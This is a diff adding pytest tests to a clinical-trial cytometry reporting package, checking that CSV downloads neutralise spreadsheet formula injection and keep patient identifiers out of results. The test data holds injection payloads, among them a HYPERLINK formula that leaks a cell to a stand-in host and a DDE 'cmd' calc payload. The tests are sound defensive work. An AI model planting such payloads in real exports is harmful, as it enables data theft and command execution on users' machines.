@@ -40,7 +40,7 @@ from cytotrial.flow.gating_template import read_gating_template
 from cytotrial.flow.sample_job import run_sample_job
 from cytotrial.flow.statistics_job import flow_statistics_job
 from cytotrial.panel import read_panel
-from cytotrial.report import FIGURES, build_report
+from cytotrial.report import FIGURES, ReportTable, build_report
 from cytotrial.results import write_tsv
 from cytotrial.simulate import DEFAULT_SEED, plan_demo_samples
 from cytotrial.simulate.flow import simulate_sample, write_sample
@@ -460,3 +460,129 @@ def test_identifying_paths_stay_out_of_every_result(flow, tmp_path):
         assert sample_id in failed_table
     populations = pd.read_csv(results / "flow/populations.tsv", sep="\t")
     assert set(populations["sample_id"]) == {"PT002_A_C1D1"}
+
+
+# ================================================================ CSV injection
+
+
+def csv_download(table: ReportTable) -> pd.DataFrame:
+    payload = base64.b64decode(table.csv_data_uri.split(",", 1)[1]).decode()
+    from io import StringIO
+
+    return pd.read_csv(StringIO(payload), keep_default_na=False, dtype=str)
+
+
+def test_csv_downloads_neutralise_formulas_but_keep_numbers():
+    frame = pd.DataFrame(
+        {
+            "detail": ['=HYPERLINK("http://x.example/?d="&A1,"click")', "@SUM(1)", "rash"],
+            "regimen": ["+cmd|' /C calc'!A0", "-2+3", "\tdaratumumab"],
+            "estimate": [-0.5, 1.25, -3.0],  # a numeric column: stays numeric
+            "text_number": ["-0.5", "1e-3", "\rnote"],  # numbers as text stay numbers
+        }
+    )
+    table = ReportTable("AE", frame, "ae.csv")
+    csv = csv_download(table)
+    assert csv["detail"].tolist() == [
+        '\'=HYPERLINK("http://x.example/?d="&A1,"click")',
+        "'@SUM(1)",
+        "rash",
+    ]
+    assert csv["regimen"].tolist() == ["'+cmd|' /C calc'!A0", "'-2+3", "'\tdaratumumab"]
+    assert csv["estimate"].tolist() == ["-0.5", "1.25", "-3.0"]
+    assert csv["text_number"].tolist() == ["-0.5", "1e-3", "'\rnote"]
+    assert table.rows[0][0].startswith("=HYPERLINK")  # the HTML table shows the text as is
+    assert frame["detail"].iloc[1] == "@SUM(1)"  # the table itself is not changed
+
+
+# ====================================================== a workflow run: identifiers, CSV
+
+
+INJECTED_DETAIL = '=HYPERLINK("http://x.example/?leak="&A1,"details")'
+INJECTED_REGIMEN = "@SUM(1)"
+INJECTED_BATCH = "-2+3+cmd|' /C calc'!A0"
+
+
+def csv_downloads(html: str) -> dict[str, list[list[str]]]:
+    """The report's CSV downloads by file name, as rows of cells."""
+    import csv
+    import io
+
+    found = re.findall(r'download="([^"]+)" href="data:text/csv;base64,([A-Za-z0-9+/=]+)"', html)
+    return {
+        name: list(csv.reader(io.StringIO(base64.b64decode(uri).decode(), newline="")))
+        for name, uri in found
+    }
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.slow
+def test_workflow_keeps_identifiers_out_and_neutralises_downloads(flow, tmp_path):
+    """Input: PT001's samples (good) and four samples of PT002/PT003 whose files, named
+    Jansen_Maria_1234567_<sample>.fcs, are broken four ways; an adverse-event detail
+    '=HYPERLINK(...)', a regimen '@SUM(1)' and a batch '-2+3+cmd|...'.
+    Expected: no file under results/ holds the name, the number or a path (the logs may);
+    each failure is listed by sample ID with its reason; PT001 keeps its results; every
+    CSV download has its formula-like text cells prefixed with ' and numbers unchanged."""
+    from small_trial import simulate_small_trial
+    from test_bad_input import broken_clinical
+
+    sheet = simulate_small_trial(tmp_path, ["PT001", "PT002", "PT003"])
+    broken = sheet[sheet["patient_id"] != "PT001"].head(4).index
+    kinds = ("truncated", "not_fcs", "zero_events", "no_cd38_channel")
+    for index, how in zip(broken, kinds, strict=True):
+        path = identifying_path(tmp_path, sheet.loc[index, "sample_id"])
+        sheet.loc[index, "fcs"] = str(broken_file(flow, path, how))
+    sheet = sheet[(sheet["patient_id"] == "PT001") | sheet.index.isin(broken)]
+    sheet.loc[sheet.index[0], "batch"] = INJECTED_BATCH
+
+    def inject_detail(frame: pd.DataFrame) -> None:
+        assert (frame["detail"] != "").sum() > 0
+        frame.loc[frame["detail"] != "", "detail"] = INJECTED_DETAIL
+
+    def inject_regimen(frame: pd.DataFrame) -> None:
+        frame.loc[(frame["line"] == "1").idxmax(), "regimen"] = INJECTED_REGIMEN
+
+    ae_edited = broken_clinical(
+        tmp_path / "clinical", tmp_path / "ae", "adverse_events", inject_detail
+    )
+    edited = broken_clinical(ae_edited, tmp_path / "edited", "subsequent_therapies", inject_regimen)
+    workflow = run_workflow(tmp_path, sheet, edited)
+
+    folder = identifying_path(tmp_path, "x").parent
+    for name, text in result_texts(workflow / "results"):
+        assert leaks(text, folder) == [], name
+    failed = sheet.loc[broken, "sample_id"]
+    for sample_id in failed:  # only the job's own log names the file
+        log = (workflow / f"logs/flow/analyse_sample/{sample_id}.log").read_text()
+        assert str(identifying_path(tmp_path, sample_id)) in log
+
+    qc = pd.read_csv(workflow / "results/flow/sample_qc.tsv", sep="\t").set_index("sample_id")
+    assert (qc.loc[failed, "status"] != "ok").all()
+    good = sorted(set(sheet["sample_id"]) - set(failed))
+    assert (qc.loc[good, "status"] == "ok").all()
+    populations = pd.read_csv(workflow / "results/flow/populations.tsv", sep="\t")
+    assert sorted(set(populations["sample_id"])) == good
+    html = (workflow / "results/report/cytotrial_report.html").read_text()
+    failed_table = html[html.index("Failed or flagged samples") :]
+    for sample_id in failed:
+        assert sample_id in failed_table and str(escape(qc.loc[sample_id, "reason"])) in html
+
+    downloads = csv_downloads(html)
+    cells = [(name, cell) for name, rows in downloads.items() for row in rows for cell in row]
+    for name, cell in cells:
+        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert is_number(cell), (name, cell)  # only numbers may start so
+        if cell.startswith("'") and len(cell) > 1:
+            assert not is_number(cell[1:]), (name, cell)  # no number was quoted
+    texts = {cell for _, cell in cells}
+    assert f"'{INJECTED_REGIMEN}" in texts
+    assert f"'{INJECTED_BATCH}" in texts
+    assert any(cell.startswith(f"'{INJECTED_DETAIL}") for cell in texts)
